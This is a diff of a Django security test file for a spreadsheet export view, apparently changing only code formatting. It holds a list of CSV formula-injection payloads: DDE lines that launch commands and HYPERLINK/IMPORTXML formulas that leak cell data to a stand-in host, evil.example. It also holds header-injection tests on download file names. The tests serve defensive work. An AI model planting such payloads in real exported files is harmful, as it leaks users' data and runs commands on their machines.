@@ -23,16 +23,16 @@ from tests.testapp.models import Author, Record
 OWASP_PAYLOADS = [
     "=1+1",
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+    '=DDE("cmd";"/C calc";"!A0")A0',
     "\t=1+1",
     "\r=1+1",
     "\n=1+1",
     "\0=1+1",
-    "=IMPORTXML(CONCAT(\"http://evil.example/\", A1), \"//a\")",
+    '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
     "-1",
     "+1",
     "@A1",
@@ -72,7 +72,7 @@ def test_owasp_payloads_through_the_view(client):
 
 class HostileNameExport(StreamingExportView):
     model = Record
-    export_fields = ["id", "title"]
+    export_fields = ("id", "title")
 
     def get_filename(self):
         return self.request.GET.get("name", "")
@@ -83,7 +83,7 @@ class MyRecordsExport(LoginRequiredMixin, PermissionRequiredMixin, StreamingExpo
 
     permission_required = "testapp.view_record"
     raise_exception = False
-    export_fields = ["id", "title"]
+    export_fields = ("id", "title")
 
     def get_queryset(self):
         return Record.objects.filter(author__name=self.request.user.get_username())
@@ -116,7 +116,7 @@ urlpatterns = [
 def test_hostile_download_names(client, name, fallback):
     response = client.head("/name/", {"name": name, "format": "csv"})
     header = response["Content-Disposition"]
-    assert header.startswith("attachment; filename=\"")
+    assert header.startswith('attachment; filename="')
     assert "\r" not in header and "\n" not in header and "/" not in header.split("filename*")[0]
     assert "\u202e" not in header and "%E2%80%AE" not in header and "%E2%80%8B" not in header
     sent = header.split('filename="', 1)[1].split('"', 1)[0]
@@ -182,7 +182,9 @@ FUZZ_STATS = {"cases": 0, "ok": 0, "rejected": 0}
 
 @pytest.mark.urls("tests.test_security")
 @pytest.mark.django_db(transaction=True)  # response.close() closes the connection, as in production
-@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(
+    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
 @given(
     pairs=st.lists(st.tuples(PARAM_NAMES, VALUES), max_size=4),
     raw=st.sampled_from(["", "&%ZZ", "&format=%FF%FE", "&%00=%00", "&format=%E2%80%AE", "&=&&="]),
